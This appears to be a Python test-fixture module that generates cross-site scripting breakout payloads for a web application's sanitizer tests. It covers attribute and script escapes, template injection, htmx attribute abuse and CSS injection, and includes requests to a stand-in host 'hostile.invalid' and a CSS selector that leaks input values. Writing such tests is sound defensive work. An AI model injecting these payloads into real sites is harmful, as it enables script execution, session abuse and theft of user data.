"""Strings that leave where they stand: an attribute, a script, a template, what htmx swaps, a style."""

from itertools import product

from tests.hostile.short import IMG, LOAD, SCRIPT
from tests.hostile.vocabulary import CALL, CALLS


def breakouts(chance):
    """Out of an attribute, an element, a string of script, a style, a comment, JSON in a page."""
    closing = [
        '">',
        "'>",
        "`>",
        ">",
        '"/>',
        "'/>",
        '" >',
        '\\">',
        "</title>",
        "</textarea>",
        "</script>",
        "</style>",
        "</noscript>",
    ]
    closing += [
        "</SCRIPT >",
        "</script\n>",
        "</script/>",
        "</script><!--",
        "-->",
        "--!>",
        "]]>",
        "</xmp>",
        "</iframe>",
        "</select>",
    ]
    closing += [
        "</template>",
        "</option></select>",
        "</svg>",
        "</math>",
        "</button>",
        "</a>",
        "</li></ol>",
        "</div></div></div>",
    ]
    closing += [
        '"}</script>',
        '"]}</script>',
        '\\"}</script>',
        "\u2028</script>",
        "</ScRiPt>",
        "<!--<script>",
        "<!--</script>",
    ]
    closing += [
        "</p></blockquote>",
        "</td></table>",
        "</mark>",
        "</bdi>",
        "</time>",
        "</label>",
        "*/</script>",
        "\n\n</script>",
    ]
    for start, call in product(closing, [IMG, SCRIPT, LOAD]):
        yield start + call
    attributes = [
        "autofocus onfocus=",
        "onmouseover=",
        "onload=",
        "style=animation-name:x onanimationstart=",
        "onpointerenter=",
    ]
    quotes = [
        '" {} x="',
        "' {} x='",
        "` {} x=`",
        " {} ",
        '"{}',
        "'{}",
        '"\t{}\t',
        '"/{}/x="',
        "x\n{}\n",
        "&quot; {} ",
        "&#34; {} ",
    ]
    quotes += ['\\" {} ', "\xa0{}", "\x0c{} ", "%22 {} ", "＂ {} ", "”{} ", '" accesskey=x {} ', '"><x {} ']
    for quote, name in product(quotes, attributes):
        yield quote.format(name + chance.choice(CALLS[:5]))
    scripts = [
        "';%s//",
        '";%s//',
        "`;%s//",
        "\\';%s//",
        '\\";%s//',
        "'-%s-'",
        '"-%s-"',
        "`${%s}`",
        "${%s}",
        "*/%s/*",
        "\n%s\n",
        "\r%s",
    ]
    scripts += [
        "\u2028%s\u2029",
        "');%s//",
        '");%s//',
        "'});%s//",
        "]];%s//",
        "0;%s",
        "};%s;{",
        "\\u0027;%s//",
        "\\x27;%s//",
    ]
    scripts += [
        '"}]}</script><script>%s//',
        "__proto__[x]=%s",
        "constructor.constructor('%s')()",
        "//%s",
        "<!--\n%s",
        "-->\n%s",
    ]
    yield from (script.replace("%s", call) for script, call in product(scripts, CALLS[:3]))


def templates(chance):
    shapes = [
        "{{%s}}",
        "{{ %s|safe }}",
        "{%% autoescape off %%}%s",
        "{%% include '%s' %%}",
        "{%% load x %%}%s",
        "{#%s#}",
        "${%s}",
    ]
    shapes += [
        "#{%s}",
        "<%%=%s%%>",
        "<%%- %s %%>",
        "<?=%s?>",
        "[[%s]]",
        "((%s))",
        "@{%s}",
        "@(%s)",
        "{{{%s}}}",
        "{{=%s}}",
        "{!!%s!!}",
    ]
    shapes += [
        "{%% raw %%}%s",
        "*{%s}",
        "~{%s}",
        "$(%s)",
        "`%s`",
        "{{constructor.constructor('%s')()}}",
        "{{'a'.constructor.fromCharCode}}%s",
    ]
    shapes += [
        "{{$on.constructor('%s')()}}",
        "{{_c.constructor('%s')()}}",
        "{{x=>%s}}",
        "%%(x)s%s",
        "{0.__class__}%s",
        "%%s%%n%s",
    ]
    yield from (
        shape.replace("%s", call).replace("%%", "%") for shape, call in product(shapes, [CALL, IMG, "'xss(NUM)'"])
    )
    names = "v-html v-on:click @click :href v-bind:onclick ng-click ng-init ng-app ng-bind-html x-data x-init x-on:click x-html"
    names += " x-bind:onload on:click bind:innerHTML data-bind data-ng-init *ngIf (click) [innerHTML] is slot part data-onload"
    names += (
        " data-bs-toggle data-html data-content dangerouslySetInnerHTML data-remote data-method data-action wire:click"
    )
    for name in names.split():
        yield f'<div {name}="{CALL}">n</div>'
        yield f'" {name}="{CALL}" x="'


def swaps(chance):
    """htmx is on the pages of those who are signed in: its attributes are script too."""
    names = (
        "get post put patch delete boost push-url select select-oob swap swap-oob target trigger vals confirm disable"
    )
    names += " disabled-elt disinherit encoding ext headers history history-elt include indicator inherit params prompt"
    names += " preserve replace-url request sync validate vars on on:click on::load on:htmx:load on--after-request"
    values = {
        "trigger": "load[xss(NUM)]",
        "vals": "js:{x:xss(NUM)}",
        "vars": "x:xss(NUM)",
        "headers": "js:{x:xss(NUM)}",
    }
    values |= {
        "get": "//hostile.invalid/NUM",
        "post": "/accounts/logout/",
        "swap-oob": "innerHTML:body",
        "target": "body",
    }
    values |= {"request": 'js:{"timeout":xss(NUM)}', "include": "body", "select-oob": "#main:beforeend"}
    for name in names.split():
        value = values.get(name, CALL)
        for written in (f"hx-{name}", f"data-hx-{name}"):
            yield f"<div {written}='{value}' hx-trigger=load>n</div>"
            yield f'" {written}="{value}" x="'
    yield from (
        f'<div id="{name}" hx-swap-oob="true">{IMG}</div>' for name in ("main", "comments", "thread", "comments-said")
    )
    yield "<div hx-ext='path-deps' ws-connect='ws://hostile.invalid/NUM' sse-connect='//hostile.invalid/NUM'>"
    yield "<meta name='htmx-config' content='{\"allowEval\":true,\"includeIndicatorStyles\":true}'>NUM"


def styles(chance):
    values = [
        "expression(xss(NUM))",
        "url(javascript:xss(NUM))",
        "url(//hostile.invalid/NUM)",
        "url('data:text/html,NUM')",
    ]
    values += [
        "exp/**/ression(xss(NUM))",
        "\\65xpression(xss(NUM))",
        "image-set('//hostile.invalid/NUM' 1x)",
        "attr(x url)",
    ]
    values += [
        "-webkit-image-set(url(//hostile.invalid/NUM) 1x)",
        "cross-fade(url(//hostile.invalid/NUM), red)",
        "var(--x)",
    ]
    names = "background background-image list-style content cursor behavior -moz-binding width filter mask border-image-source"
    for name, value in product(names.split(), values):
        yield f'<p style="{name}:{value}">n</p>'
    rules = [
        "@import '//hostile.invalid/NUM';",
        "@import url(//hostile.invalid/NUM)",
        "*{background:url(//hostile.invalid/NUM)}",
    ]
    rules += [
        "@font-face{font-family:x;src:url(//hostile.invalid/NUM)}*{font-family:x}",
        "@namespace x url(//hostile.invalid/NUM);",
    ]
    rules += [
        "input[value^=a]{background:url(//hostile.invalid/NUM)}",
        "@charset 'utf-7';+ADw-",
        "body{display:none}/*NUM*/",
    ]
    rules += [
        "@\\69mport '//hostile.invalid/NUM'",
        "*{x:expression(xss(NUM))}",
        "{}*{background:url(//hostile.invalid/NUM)",
    ]
    wraps = [
        "<style>%s</style>",
        "</style><style>%s",
        "<svg><style>%s</style>",
        "<link rel=stylesheet href='data:text/css,%s'>",
    ]
    wraps += ["</textarea><style>%s</style>", '"><style>%s</style>', "<div style='%s'>n</div>", "%s", "<xmp><style>%s"]
    yield from (wrap.replace("%s", rule) for wrap, rule in product(wraps, rules))
    fixed = "position:fixed;inset:0;z-index:99"
    yield from (f'<{name} style="{fixed}">NUM</{name}>' for name in "a p em li blockquote pre".split())
